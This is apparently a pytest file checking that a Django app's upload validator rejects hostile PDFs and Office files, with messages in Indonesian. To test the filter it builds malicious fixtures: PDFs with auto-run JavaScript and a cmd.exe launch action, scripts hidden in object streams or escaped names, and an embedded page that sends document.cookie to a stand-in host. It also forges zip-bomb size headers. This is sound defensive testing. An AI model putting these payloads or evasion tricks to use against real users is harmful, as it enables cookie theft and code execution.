"""Uploads that would act when opened: a PDF with JavaScript (or a program to launch) and a DOCX or
XLSX whose zip directory lies about the sizes of its parts are refused on upload, in Indonesian
beside the field, and nothing is kept (issue 29, item 11b)."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pyhanko.pdf_utils import generic as hanko
from pyhanko.pdf_utils.writer import PdfFileWriter
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.factories import client_for
from tests.workflow.test_uploads import docx_bytes, pdf_bytes, xlsx_bytes
from workflow.forms.uploads import DOCX, PDF, XLSX, validate_upload


def name(text):
    return NameObject(text)


def written(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with(build=None, *, encrypt=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if build:
        build(writer)
    if encrypt is not None:
        writer.encrypt(**encrypt)
    return written(writer)


def script(writer, code="app.alert(document.cookie)"):
    return DictionaryObject({name("/Type"): name("/Action"), name("/S"): name("/JavaScript"),
                             name("/JS"): TextStringObject(code)})


def open_action_script(writer):
    writer._root_object[name("/OpenAction")] = writer._add_object(script(writer))


def document_script(writer):
    tree = DictionaryObject({name("/Names"): ArrayObject([TextStringObject("mulai"), writer._add_object(script(writer))])})
    writer._root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): writer._add_object(tree)})


def link_that_launches(writer):
    launch = DictionaryObject({name("/S"): name("/Launch"), name("/F"): TextStringObject("cmd.exe")})
    link = DictionaryObject({
        name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
        name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        name("/A"): launch,
    })
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(link)])


def page_opened_script(writer):
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): script(writer)})


def open_at_fit(writer):
    # An /OpenAction that only shows the first page whole: no script, as many office PDFs have.
    writer._root_object[name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])


def script_in_object_stream() -> bytes:
    """The action compressed inside an object stream: no byte of "JavaScript" in the file."""
    writer = PdfFileWriter(stream_xrefs=True)
    stream = writer.prepare_object_stream()
    action = writer.add_object(hanko.DictionaryObject({
        hanko.NameObject("/S"): hanko.NameObject("/JavaScript"), hanko.NameObject("/JS"): hanko.TextStringObject("app.alert(1)"),
    }), obj_stream=stream)
    writer.root[hanko.NameObject("/OpenAction")] = action
    data = written(writer)
    assert b"JavaScript" not in data and b"/JS" not in data
    return data


def escaped_name_in_a_broken_file() -> bytes:
    """No cross-reference table (pypdf gives up, viewers repair it), the name spelled with #-escapes
    and the action inside a deflated stream."""
    hidden = zlib.compress(b"<</S/J#61vaScript/JS(app.alert(1))>>")
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"3 0 obj<</Length " + str(len(hidden)).encode() + b"/Filter/FlateDecode>>stream\n" + hidden
            + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def upload(file_name, data):
    return SimpleUploadedFile(file_name, data, content_type="application/octet-stream")


def refusal(file_name, data) -> str:
    with pytest.raises(ValidationError) as caught:
        validate_upload(upload(file_name, data))
    return caught.value.messages[0]


@pytest.mark.parametrize("make, what", [
    (lambda: pdf_with(open_action_script), "JavaScript"),
    (lambda: pdf_with(document_script), "JavaScript"),
    (lambda: pdf_with(page_opened_script), "JavaScript"),
    (lambda: pdf_with(link_that_launches), "perintah menjalankan program"),
    (script_in_object_stream, "JavaScript"),
    (escaped_name_in_a_broken_file, "JavaScript"),
    (lambda: pdf_with(open_action_script, encrypt={"user_password": "", "owner_password": "pemilik"}), "JavaScript"),
], ids=["open-action", "document-scripts", "page-opened", "launch", "object-stream", "broken-escaped", "owner-locked"])
def test_a_pdf_that_would_run_something_is_refused(make, what):
    message = refusal("surat.pdf", make())
    assert message.startswith(f"PDF ini memuat {what} yang dijalankan saat berkas dibuka atau diklik")


def test_a_pdf_locked_with_a_password_cannot_be_checked_and_is_refused():
    locked = pdf_with(encrypt={"user_password": "rahasia", "owner_password": "pemilik"})
    assert refusal("surat.pdf", locked).startswith("PDF ini dikunci dengan kata sandi")


@pytest.mark.parametrize("make", [
    pdf_bytes, lambda: pdf_with(), lambda: pdf_with(open_at_fit),
    lambda: pdf_with(encrypt={"user_password": "", "owner_password": "pemilik"}),
], ids=["minimal", "blank-page", "open-at-fit", "owner-locked"])
def test_an_ordinary_pdf_still_passes(make):
    assert validate_upload(upload("surat.pdf", make())) == PDF


def test_a_pdf_the_app_itself_made_passes():
    from weasyprint import HTML

    made = HTML(string="<h1>Nota Dinas</h1><p>Isi nota <a href='https://kalbarprov.go.id'>tautan</a>.</p>").write_pdf()
    assert validate_upload(upload("nota.pdf", made)) == PDF


def lying(data: bytes, part: str, *, file_size=None, compress_size=None) -> bytes:
    """`data` with the sizes of `part` rewritten in the zip's directory and its local header."""
    out = bytearray(data)
    encoded = part.encode()
    central = out.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", out, central + 28)[0]
        if out[central + 46:central + 46 + name_length] == encoded:
            local = struct.unpack_from("<I", out, central + 42)[0]
            for offset, value in ((20, compress_size), (24, file_size)):
                if value is not None:
                    struct.pack_into("<I", out, central + offset, value)
                    struct.pack_into("<I", out, local + offset - 2, value)
            return bytes(out)
        central = out.find(b"PK\x01\x02", central + 4)
    raise AssertionError(f"{part} not in the archive")


def office_with_big_part(main_part, main_type, *, method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("[Content_Types].xml", b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.'
                         + main_type + b'"/></Types>')
        archive.writestr(main_part, b"<w:p>isi surat</w:p>" * 5000)
    return out.getvalue()


DOCX_PARTS = ("surat.docx", "word/document.xml", b"wordprocessingml.document.main+xml")
XLSX_PARTS = ("tabel.xlsx", "xl/workbook.xml", b"spreadsheetml.sheet.main+xml")
ACTUAL = len(b"<w:p>isi surat</w:p>" * 5000)


@pytest.mark.parametrize("file_name, part, main_type", [DOCX_PARTS, XLSX_PARTS])
@pytest.mark.parametrize("lie", [
    {"file_size": 100},  # far more inflates than declared: the classic small-looking bomb
    {"file_size": ACTUAL + 1},
    {"compress_size": 50},
], ids=["declares-less", "declares-more", "compressed-size"])
def test_an_office_file_whose_directory_lies_about_a_part_is_refused(file_name, part, main_type, lie):
    honest = office_with_big_part(part, main_type)
    validate_upload(upload(file_name, honest))
    message = refusal(file_name, lying(honest, part, **lie))
    assert message.startswith(f"Berkas ini tidak utuh: bagian \u201c{part}\u201d tidak sesuai dengan ukuran yang tercatat")


def test_a_stored_part_that_declares_another_size_is_refused():
    honest = office_with_big_part(*DOCX_PARTS[1:], method=zipfile.ZIP_STORED)
    assert validate_upload(upload("surat.docx", honest)) == DOCX
    assert "tidak utuh" in refusal("surat.docx", lying(honest, DOCX_PARTS[1], file_size=10))


@pytest.mark.parametrize("file_name, make, kind", [("surat.docx", docx_bytes, DOCX), ("tabel.xlsx", xlsx_bytes, XLSX)])
def test_an_honest_office_file_still_passes(file_name, make, kind):
    assert validate_upload(upload(file_name, make())) == kind


@pytest.mark.parametrize("file_name, make", [
    ("surat.pdf", lambda: pdf_with(open_action_script)),
    ("surat.docx", lambda: lying(office_with_big_part(*DOCX_PARTS[1:]), DOCX_PARTS[1], file_size=100)),
])
def test_the_upload_form_says_why_and_keeps_nothing(people, dossier, file_name, make):
    response = client_for(people, "staf").post(
        f"/dosier/{dossier.pk}/aksi/unggah_dokumen/",
        {"revision": dossier.revision, "state": dossier.state, "kind": "lainnya", "file": upload(file_name, make())},
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "PDF ini memuat JavaScript" in page or "Berkas ini tidak utuh" in page
    assert not dossier.documents.exists()


def attached_page(writer):
    writer.add_attachment("tagihan.html", b"<script>fetch('https://contoh.invalid/?c='+document.cookie)</script>")


def link_to_a_script(writer):
    writer.add_annotation(0, DictionaryObject({
        name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
        name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        name("/A"): DictionaryObject({name("/S"): name("/URI"), name("/URI"): TextStringObject(" JavaScript:alert(1)")}),
    }))


@pytest.mark.parametrize("make, what", [
    (lambda: pdf_with(attached_page), "berkas tersemat (lampiran di dalam PDF)"),
    (lambda: pdf_with(link_to_a_script), "tautan javascript:"),
], ids=["embedded-html", "javascript-link"])
def test_a_pdf_carrying_a_file_or_a_script_link_is_refused(make, what):
    assert refusal("surat.pdf", make()).startswith(f"PDF ini memuat {what}")


def test_an_ordinary_web_link_still_passes():
    def web_link(writer):
        writer.add_annotation(0, DictionaryObject({
            name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
            name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
            name("/A"): DictionaryObject({name("/S"): name("/URI"), name("/URI"): TextStringObject("https://kalbarprov.go.id")}),
        }))

    assert validate_upload(upload("surat.pdf", pdf_with(web_link))) == PDF
